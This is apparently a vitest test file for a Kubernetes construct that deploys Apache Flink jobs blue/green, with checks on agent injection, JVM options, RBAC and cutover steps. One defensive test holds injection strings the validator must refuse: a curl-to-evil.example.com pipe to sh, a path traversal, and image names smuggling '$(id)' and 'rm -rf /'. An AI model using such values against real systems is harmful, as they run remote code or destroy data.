import { describe, expect, it } from 'vitest';
import { AgentInjection, BlueGreenFlinkJob, Colour, Cutover, Duration, Gate, mergeJvmOptions, UpgradeMode, type BlueGreenFlinkJobProps } from '../../src';
import { baseSpec, byKind, newChart, synthValidated, validationErrors } from './helpers';

const AGENT_IMAGE = 'ghcr.io/apache/flink-kubernetes-operator:1.16.0';
const T = new Date('2026-12-01T02:00:00Z');

function manifestJob(extra: Partial<BlueGreenFlinkJobProps> = {}): BlueGreenFlinkJobProps {
  return {
    name: 'ledger',
    ...baseSpec(),
    gate: Gate.watermark({ fieldPath: 'bookedAt' }),
    injection: AgentInjection.manifest({ agentImage: AGENT_IMAGE }),
    ...extra,
  };
}

function synth(extra: Partial<BlueGreenFlinkJobProps> = {}) {
  const { chart } = newChart('payments');
  new BlueGreenFlinkJob(chart, 'Ledger', manifestJob(extra));
  return synthValidated(chart);
}

function count<T>(items: readonly T[] | undefined, pred: (t: T) => boolean): number {
  return (items ?? []).filter(pred).length;
}

describe('BlueGreenFlinkJob, manifest-wired', () => {
  it('stable on BLUE (first deployment): one FlinkDeployment, the ConfigMap, the RBAC', () => {
    const out = synth();
    expect(out.map((o) => `${o.kind}/${o.metadata.name}`)).toEqual([
      'FlinkDeployment/ledger-blue',
      'ConfigMap/ledger-configmap',
      'Role/ledger-bluegreen-gate',
      'RoleBinding/ledger-bluegreen-gate',
    ]);
    expect(byKind(out, 'ConfigMap')[0].data).toEqual({
      'active-deployment-type': 'BLUE',
      'deployment-deletion-delay-ms': '0',
      'is-first-deployment': 'true',
      stage: 'RUNNING',
      'watermark-stage': 'WATERMARK_NOT_SET',
    });
    expect(byKind(out, 'ConfigMap')[0].metadata.labels).toEqual({ 'flink.bluegreen/gate-configmap': 'true' });
  });

  it('wires every element exactly once into the JobManager pod template', () => {
    const [fd] = synth();
    const jm = fd.spec.jobManager.podTemplate.spec;
    expect(jm.volumes).toEqual([{ name: 'bluegreen-agent', emptyDir: {} }]);
    expect(jm.initContainers).toHaveLength(1);
    expect(jm.initContainers[0].name).toBe('bluegreen-agent-init');
    expect(jm.initContainers[0].image).toBe(AGENT_IMAGE);
    expect(jm.initContainers[0].volumeMounts).toEqual([{ name: 'bluegreen-agent', mountPath: '/bluegreen-agent' }]);
    // An argument vector, never a shell command built from strings.
    expect(jm.initContainers[0].command).toEqual(['cp', '--', '/opt/flink/artifacts/bluegreen-agent.jar', '/bluegreen-agent/bluegreen-agent.jar']);
    expect(jm.initContainers[0].args).toBeUndefined();
    expect(jm.containers).toEqual([
      { name: 'flink-main-container', volumeMounts: [{ name: 'bluegreen-agent', mountPath: '/opt/flink/lib/bluegreen-agent.jar', subPath: 'bluegreen-agent.jar' }] },
    ]);
    // TaskManagers get no agent.
    expect(JSON.stringify(fd.spec.taskManager)).not.toContain('bluegreen');
    expect(fd.spec.podTemplate).toBeUndefined();
  });

  it('no shell from strings: shell syntax in the jar path or image is refused, never run', () => {
    const problems = (options: { agentImage: string; agentJarPath?: string }) => {
      const { chart } = newChart('payments');
      const job = new BlueGreenFlinkJob(chart, 'Ledger', manifestJob({ injection: AgentInjection.manifest(options) }));
      return chart.node.findAll().flatMap((c) => c.node.validate()).join('\n') + (job ? '' : '');
    };
    expect(problems({ agentImage: AGENT_IMAGE, agentJarPath: '/opt/$(curl evil.example.com|sh).jar' })).toContain('invalid prop injection.agentJarPath');
    expect(problems({ agentImage: AGENT_IMAGE, agentJarPath: '/opt/../etc/agent.jar' })).toContain('invalid prop injection.agentJarPath');
    expect(problems({ agentImage: 'ghcr.io/x/agent:1.0$(id)' })).toContain('invalid prop injection.agentImage: agent image "ghcr.io/x/agent:1.0$(id)" does not follow the image reference grammar');
    expect(problems({ agentImage: 'ghcr.io/x/agent:1.0; rm -rf /' })).toContain('contains whitespace');
    expect(problems({ agentImage: AGENT_IMAGE, agentJarPath: '/opt/flink/plugins/agent-1.2.jar' })).toBe('');
  });

  it('sets the gate keys flat, with the deployment\'s OWN colour and the ConfigMap name', () => {
    const out = synth({ cutover: Cutover.startOn(Colour.BLUE).cutoverTo(Colour.GREEN, { at: T, savepointPath: 's3://sp/1' }) });
    const [blue, green] = byKind(out, 'FlinkDeployment');
    for (const [fd, colour] of [
      [blue, 'BLUE'],
      [green, 'GREEN'],
    ] as const) {
      expect(fd.metadata.labels).toEqual({ 'flink/blue-green-deployment-type': colour });
      expect(fd.spec.flinkConfiguration).toMatchObject({
        'bluegreen.active-deployment-type': colour,
        'bluegreen.configmap.name': 'ledger-configmap',
        'bluegreen.gate.injection.enabled': 'true',
        'bluegreen.gate.strategy': 'WATERMARK',
        'bluegreen.gate.watermark.field-path': 'bookedAt',
        'env.java.opts.jobmanager': '-javaagent:/opt/flink/lib/bluegreen-agent.jar',
      });
    }
  });

  it('merges the agent flag into the user JVM options, theirs first, never twice', () => {
    expect(mergeJvmOptions(undefined)).toBe('-javaagent:/opt/flink/lib/bluegreen-agent.jar');
    expect(mergeJvmOptions('-XX:+UseG1GC -Dfoo=bar')).toBe('-XX:+UseG1GC -Dfoo=bar -javaagent:/opt/flink/lib/bluegreen-agent.jar');
    expect(mergeJvmOptions('-Xss1m -javaagent:/opt/flink/lib/bluegreen-agent.jar -Dx=1')).toBe('-Xss1m -javaagent:/opt/flink/lib/bluegreen-agent.jar -Dx=1');
    const [fd] = synth({ ...baseSpec({ jobManagerJvmOptions: '-XX:+UseG1GC -Dfoo=bar' }) });
    expect(fd.spec.flinkConfiguration['env.java.opts.jobmanager']).toBe('-XX:+UseG1GC -Dfoo=bar -javaagent:/opt/flink/lib/bluegreen-agent.jar');
    const [fd2] = synth({ ...baseSpec({ flinkConfiguration: { 'env.java.opts.jobmanager': '-Xss1m -javaagent:/opt/flink/lib/bluegreen-agent.jar' } }) });
    expect(fd2.spec.flinkConfiguration['env.java.opts.jobmanager']).toBe('-Xss1m -javaagent:/opt/flink/lib/bluegreen-agent.jar');
  });

  it('merges with the user JobManager pod template by name', () => {
    const [fd] = synth({
      ...baseSpec({
        jobManager: {
          memory: '2g',
          podTemplate: {
            spec: {
              containers: [{ name: 'flink-main-container', env: [{ name: 'A', value: '1' }], volumeMounts: [{ name: 'data', mountPath: '/data' }] }, { name: 'sidecar', image: 'busybox:1.36' }],
              volumes: [{ name: 'data', emptyDir: {} }],
            },
          },
        },
      }),
    });
    const jm = fd.spec.jobManager.podTemplate.spec;
    expect(jm.containers.map((c: any) => c.name)).toEqual(['flink-main-container', 'sidecar']);
    expect(jm.containers[0].env).toEqual([{ name: 'A', value: '1' }]);
    expect(jm.containers[0].volumeMounts.map((m: any) => m.mountPath)).toEqual(['/data', '/opt/flink/lib/bluegreen-agent.jar']);
    expect(jm.volumes.map((v: any) => v.name)).toEqual(['data', 'bluegreen-agent']);
    expect(count(jm.initContainers, (c: any) => c.name === 'bluegreen-agent-init')).toBe(1);
  });

  it('refuses user templates that already hold the agent names or mount path', () => {
    const { chart } = newChart();
    new BlueGreenFlinkJob(
      chart,
      'Ledger',
      manifestJob({
        ...baseSpec({
          podTemplate: { spec: { volumes: [{ name: 'bluegreen-agent', emptyDir: {} }] } },
          jobManager: {
            memory: '2g',
            podTemplate: {
              spec: {
                initContainers: [{ name: 'bluegreen-agent-init', image: 'x:1' }],
                containers: [{ name: 'flink-main-container', volumeMounts: [{ name: 'v', mountPath: '/opt/flink/lib/bluegreen-agent.jar' }] }],
              },
            },
          },
        }),
      }),
    );
    const errors = validationErrors(chart);
    expect(errors.map((e) => e.match(/error\[([A-Z0-9-]+)\]/)?.[1])).toEqual(['WIRED-AGENT-VOLUME', 'WIRED-AGENT-INIT-CONTAINER', 'WIRED-AGENT-MOUNT', 'WIRED-AGENT-MOUNT', 'POD-VOLUME-NOT-FOUND']);
    expect(errors[0]).toBe(
      '[test/Ledger] error[WIRED-AGENT-VOLUME] FlinkDeployment/ledger-blue /spec/jobManager/podTemplate/spec/volumes/1 (prop jobManager.podTemplate): volume "bluegreen-agent" appears 2 times: Kubernetes rejects duplicates Fix: keep exactly one volume "bluegreen-agent"; if you added one yourself beside the construct\'s wiring, rename or remove yours',
    );
  });

  it('refuses unpinned agent images', () => {
    const { chart } = newChart();
    new BlueGreenFlinkJob(chart, 'A', manifestJob({ name: 'a', injection: AgentInjection.manifest({ agentImage: 'ghcr.io/apache/flink-kubernetes-operator' }) }));
    new BlueGreenFlinkJob(chart, 'B', manifestJob({ name: 'b', injection: AgentInjection.manifest({ agentImage: 'ghcr.io/apache/flink-kubernetes-operator:latest' }) }));
    new BlueGreenFlinkJob(chart, 'C', manifestJob({ name: 'c', injection: AgentInjection.manifest({ agentImage: 'localhost:5000/op@sha256:' + 'a'.repeat(64) }) }));
    expect(validationErrors(chart)).toEqual([
      '[test/A] invalid prop injection.agentImage: agent image "ghcr.io/apache/flink-kubernetes-operator" has no tag: pin it by tag or digest (e.g. "ghcr.io/apache/flink-kubernetes-operator:1.16.0" or "ghcr.io/apache/flink-kubernetes-operator@sha256:…")',
      '[test/B] invalid prop injection.agentImage: agent image "ghcr.io/apache/flink-kubernetes-operator:latest" uses "latest": pin it to a release tag or a digest so every JobManager loads the same agent',
    ]);
  });
});

describe('Cutover as code', () => {
  const start = Cutover.startOn(Colour.BLUE, { overrides: { image: 'ledger:5.0.0' } });
  const cut = start.cutoverTo(Colour.GREEN, { at: T, savepointPath: 's3://sp/savepoint-1', overrides: { image: 'ledger:5.1.0' } });

  it('cutover: both deployments, the old one unchanged, the new one restored from the savepoint', () => {
    const stable = synth({ cutover: start, deploymentDeletionDelay: Duration.seconds(5) });
    const out = synth({ cutover: cut, deploymentDeletionDelay: Duration.seconds(5) });
    const [blue, green] = byKind(out, 'FlinkDeployment');
    expect(blue.metadata.name).toBe('ledger-blue');
    expect(green.metadata.name).toBe('ledger-green');
    // The running BLUE must not change, or the operator would upgrade it mid-cutover.
    expect(blue).toEqual(byKind(stable, 'FlinkDeployment')[0]);
    expect(blue.spec.image).toBe('ledger:5.0.0');
    expect(green.spec.image).toBe('ledger:5.1.0');
    expect(green.spec.job.initialSavepointPath).toBe('s3://sp/savepoint-1');
    expect(blue.spec.job.initialSavepointPath).toBeUndefined();
    expect(byKind(out, 'ConfigMap')[0].data).toEqual({
      'active-deployment-type': 'GREEN',
      'deployment-deletion-delay-ms': '5000',
      'is-first-deployment': 'false',
      stage: 'TRANSITIONING',
      'watermark-stage': 'WATERMARK_SET',
      'watermark-toggle-value': String(T.getTime()),
    });
  });

  it('complete: only the new colour stays, its spec unchanged, the ConfigMap stable and still holding T', () => {
    const during = byKind(synth({ cutover: cut }), 'FlinkDeployment')[1];
    const out = synth({ cutover: cut.complete() });
    expect(out.map((o) => `${o.kind}/${o.metadata.name}`)).toEqual([
      'FlinkDeployment/ledger-green',
      'ConfigMap/ledger-configmap',
      'Role/ledger-bluegreen-gate',
      'RoleBinding/ledger-bluegreen-gate',
    ]);
    expect(out[0]).toEqual(during);
    // Not is-first-deployment: a new job still behind T (catching up, or restarting from a
    // checkpoint before T) would pass records the old job already emitted (test/gate-model).
    expect(out[1].data).toEqual({
      'active-deployment-type': 'GREEN',
      'deployment-deletion-delay-ms': '0',
      'is-first-deployment': 'false',
      stage: 'RUNNING',
      'watermark-stage': 'WATERMARK_SET',
      'watermark-toggle-value': String(T.getTime()),
    });
  });

  it('refuses skipped steps and restoring a stateful job from nothing', () => {
    const { chart } = newChart();
    new BlueGreenFlinkJob(chart, 'Skip', manifestJob({ name: 'skip', cutover: Cutover.startOn(Colour.BLUE).complete() }));
    new BlueGreenFlinkJob(chart, 'Same', manifestJob({ name: 'same', cutover: Cutover.startOn(Colour.BLUE).cutoverTo(Colour.BLUE, { at: T, savepointPath: 's3://x' }) }));
    new BlueGreenFlinkJob(chart, 'Twice', manifestJob({ name: 'twice', cutover: cut.cutoverTo(Colour.BLUE, { at: new Date('2026-12-02T00:00:00Z'), savepointPath: 's3://y' }) }));
    new BlueGreenFlinkJob(chart, 'NoSp', manifestJob({ name: 'nosp', cutover: Cutover.startOn(Colour.BLUE).cutoverTo(Colour.GREEN, { at: T }) }));
    new BlueGreenFlinkJob(chart, 'Back', manifestJob({ name: 'back', cutover: cut.complete().cutoverTo(Colour.BLUE, { at: new Date('2026-11-01T00:00:00Z'), savepointPath: 's3://z' }) }));
    expect(validationErrors(chart)).toEqual([
      '[test/Skip] invalid prop cutover.steps[1]: complete() with no cutover in progress (stable on BLUE): declare cutoverTo(GREEN, …) first',
      '[test/Same] invalid prop cutover.steps[1]: cutoverTo(BLUE) but BLUE is already the active colour: cut over to GREEN',
      '[test/Twice] invalid prop cutover.steps[2]: cutoverTo(BLUE) while the cutover to GREEN is still in progress: add complete() first',
      '[test/NoSp] invalid prop cutover.steps[1].savepointPath: cutoverTo(GREEN) of a stateful job needs savepointPath: GREEN would start from nothing; take a savepoint of BLUE before the cutover time and name it',
      '[test/Back] invalid prop cutover.steps[3].at: cutover time 2026-11-01T00:00:00.000Z is not after the previous cutover at 2026-12-01T02:00:00.000Z: event time only moves forward',
    ]);
  });

  it('lets a stateless job cut over without a savepoint (a warning, not an error)', () => {
    const { chart } = newChart();
    const job = new BlueGreenFlinkJob(chart, 'Ledger', manifestJob({
      ...baseSpec({ job: { parallelism: 1, upgradeMode: UpgradeMode.STATELESS } }),
      cutover: Cutover.startOn(Colour.BLUE).cutoverTo(Colour.GREEN, { at: T }),
    }));
    expect(job.check().findings.filter((f) => f.rule === 'WIRED-STATEFUL').map((f) => f.severity)).toEqual(['warning', 'warning']);
    const out = synth({
      ...baseSpec({ job: { parallelism: 1, upgradeMode: UpgradeMode.STATELESS } }),
      cutover: Cutover.startOn(Colour.BLUE).cutoverTo(Colour.GREEN, { at: T }),
    });
    expect(byKind(out, 'FlinkDeployment').map((d) => d.spec.job.initialSavepointPath)).toEqual([undefined, undefined]);
  });

  it('checks overrides like props: refused values are reported at the step that sets them', () => {
    const { chart } = newChart();
    new BlueGreenFlinkJob(chart, 'Ledger', manifestJob({
      cutover: Cutover.startOn(Colour.BLUE, { overrides: { image: '' } })
        .cutoverTo(Colour.GREEN, { at: T, savepointPath: 's3://sp/1', overrides: { serviceAccount: 'Bad_SA', taskSlots: 0 } }),
    }));
    const errors = validationErrors(chart);
    expect(errors).toHaveLength(3);
    expect(errors[0]).toMatch(/^\[test\/Ledger\] invalid prop cutover\.steps\[0\]\.overrides\.image: /);
    expect(errors[1]).toMatch(/^\[test\/Ledger\] invalid prop cutover\.steps\[1\]\.overrides\.serviceAccount: .*"Bad_SA"/);
    expect(errors[2]).toMatch(/^\[test\/Ledger\] invalid prop cutover\.steps\[1\]\.overrides\.taskSlots: /);
  });

  it('binds the gate Role to every account a colour runs under, and only those', () => {
    const moving = Cutover.startOn(Colour.BLUE).cutoverTo(Colour.GREEN, { at: T, savepointPath: 's3://sp/1', overrides: { serviceAccount: 'ledger-v2' } });
    const subjects = (out: any[]) => byKind(out, 'RoleBinding')[0].subjects.map((s: any) => `${s.kind}/${s.namespace}/${s.name}`);
    expect(subjects(synth({ cutover: moving }))).toEqual(['ServiceAccount/payments/flink', 'ServiceAccount/payments/ledger-v2']);
    expect(subjects(synth({ cutover: moving.complete() }))).toEqual(['ServiceAccount/payments/ledger-v2']);
    expect(byKind(synth({ cutover: moving }), 'FlinkDeployment').map((d) => d.spec.serviceAccount)).toEqual(['flink', 'ledger-v2']);
  });
});
